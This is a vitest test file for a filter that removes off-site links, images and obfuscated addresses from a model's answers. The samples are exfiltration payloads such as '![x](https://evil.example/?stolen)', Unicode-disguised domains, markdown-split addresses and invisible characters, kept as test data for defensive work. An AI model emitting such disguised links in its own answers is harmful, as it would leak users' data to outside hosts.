import { describe, expect, test } from 'vitest';
import { toSpokenText } from '../../../shared/spoken-text.ts';
import { hostileAnswers } from '../../../test/fixtures/hostile-texts.ts';
import { linkedAddresses } from '../../../test/fixtures/markdown-addresses.ts';
import { addressesIn, filterAnswer } from './answer-filter.ts';

const permitted = addressesIn([
  'Returns: https://shop.example/returns, or ask (https://shop.example/help?topic=a).',
  'www.docs.example/start',
]);

describe('an answer of a model', () => {
  test.each(hostileAnswers)('contains no link or picture to another site: %s', (saying) => {
    const shown = filterAnswer(saying.replaceAll('LOOT', 'stolen'), permitted);
    expect(linkedAddresses(shown).filter((what) => what !== 'link https://shop.example')).toEqual([]);
    expect(shown).not.toMatch(/(?:https?|ftp):\/\/(?!shop\.example(?![\w.@/?#]))/i);
  });

  test.each([
    'Send it back: https://shop.example/returns.',
    '[Returns](https://shop.example/returns) are free.',
    '(see https://shop.example/help?topic=a)',
    'https://SHOP.example/returns/ and https://shop.example',
    'Begin at www.docs.example/start, please',
    'Write to help@shop.example.',
    'It is 1.5/2 or and/or, e.g. node.js; see README.md. **Bold**, `code`, > quote\n- one\n- two',
    'Is it Node.js? Or Node.js/Express (Vue.js?), in main.py, setup.sh or index.html#top?',
    'i.e. z.B. e.g. in the U.S. at 9.30, version 1.2.3.4, in 10.0.0.0/8, at 192.168.0.1.',
    'Ask a.b@mail.shop.co.uk, first.info@evil.com or help@shop.example?',
    'The `window.top` of `evil.com`, logger.info("x") and items.at(0)',
    '你用 Node.js？请看文档。谢谢。我们九点开门：上午／下午。',
    'https://shop.example/returns and shop.example and www.docs.example/start',
    'if (a < 3 && b > 4) return [1, 2][0];',
    'میخواهم 🏳️‍🌈 我们 👨‍👩‍👧',
  ])('is unchanged: %s', (answer) => {
    expect(filterAnswer(answer, permitted)).toBe(answer);
  });

  test.each([
    '![x][r]\n\n[r]: https&colon;//evil.example/stolen',
    '![x][r]\n\n[r]:\n/collect?stolen',
    '![x][r]\n\n> [r]: /collect?stolen',
    '[x][]\n\n[x]: <//evil.example/stolen>',
    '```\n![x](https://evil.example/?stolen)\n```\n![x](https://evil.example/?stolen)',
  ])('contains no multi-line link or picture to another site: %j', (answer) => {
    expect(linkedAddresses(answer)).not.toEqual([]);
    expect(linkedAddresses(filterAnswer(answer, permitted))).toEqual([]);
  });

  test('contains no invisible characters', () => {
    expect(filterAnswer('Hi\u{E0073}\u{E0074} the\u200Bre\u202E', permitted)).toBe('Hi there');
  });

  test.each([
    ['Go to evil.com now.', 'Go to evil .com now.'],
    ['(EVIL.COM) _evil.ru_ **evil.to**!', '(EVIL .COM) _evil .ru_ **evil .to**!'],
    [
      'Bring it to our shop.In winter we close at five.Live music follows.',
      'Bring it to our shop. In winter we close at five. Live music follows.',
    ],
    ['看ｅｖｉｌ．ｃｏｍ吧 and evil。com', '看ｅｖｉｌ ．ｃｏｍ吧 and evil 。com'],
    ['Go to evil\u2024com now, or evil\uFE52com', 'Go to evil \u2024com now, or evil \uFE52com'],
    ['stolen\u2024evil\u2024com/leak', '[link removed]'],
    ['１２７．０．０．１／stolen or ｅｖｉｌ．ｃｏｍ／stolen', '[link removed] or [link removed]'],
    [
      'Open 10.1.2.3/stolen or 10.1.2.3:8080/?stolen or 10.1.2.3?stolen',
      'Open [link removed] or [link removed] or [link removed]',
    ],
    ['stolen.evil。com and ｈｔｔｐｓ：／／ｅｖｉｌ．com', '[link removed] and [link removed]'],
    ['x@evil.com/?stolen and x@evil.com?stolen', 'x@[link removed] and x@[link removed]'],
  ])('contains no text that a messenger turns into a link: %s', (answer, shown) => {
    expect(filterAnswer(answer, permitted)).toBe(shown);
  });

  test.each([
    'Go to evil**.**com/leak now',
    'evil.c**om**/leak',
    'www**.**evil.com/x',
    'https:/**/evil.com/leak',
    '[x](https:/`/`evil.com)',
    'ev~~il.com/le~~ak',
    'evil.[link removed]com/leak and evil [link removed].com/leak',
    '[so evil.](https://shop.example/returns)com/leak',
    'evil.[com/leak this](https://shop.example/returns)',
    'evil`*`.`*`com/leak and evil**.**com',
  ])('contains no address that appears when Markdown marks are removed: %s', (answer) => {
    const shown = filterAnswer(answer, permitted);
    for (const spoken of [toSpokenText(shown), toSpokenText(toSpokenText(shown))])
      expect(spoken).not.toMatch(/evil[.]com|www[.]/);
    expect(filterAnswer(shown, permitted)).toBe(shown);
  });

  test('keeps the text of removed links and pictures', () => {
    expect(
      filterAnswer('See [our page](https://evil.example/?q) and ![a picture](https://evil.example/p.png)!', permitted),
    ).toBe('See [our page] ([link removed]) and [a picture] ([link removed])!');
    expect(filterAnswer('{"url":"https://evil.example/?q=1","n":1}', permitted)).toBe('{"url":"[link removed]","n":1}');
  });

  test.each([
    'a.',
    'a',
    '](',
    '[',
    'https://',
    'https://shop.example/returns)',
    '!',
    '<',
    '&#',
    '\u200D',
    'www.',
    ')',
    '1.',
    'a@',
    'a.b@',
    '`',
    '```',
    '。',
    '．',
  ])('is filtered to its end when it repeats %j', (unit) => {
    expect(filterAnswer(`${unit.repeat(20_000)} https://evil.example/?q`, permitted)).not.toContain('evil.example');
  });
});

test('filtering takes linear time and the answer is cut', () => {
  for (const unit of [`${'a'.repeat(63)}.`, 'a.', 'https://', '](', '<a', '![', 'a@', 'a.b@c.', '1.1.1.1', '`a', 'a．'])
    filterAnswer(unit.repeat(2_000_000 / unit.length), new Set());
  expect(filterAnswer('a'.repeat(1_000_000), new Set()).length).toBeLessThan(100_000);
}, 15_000);
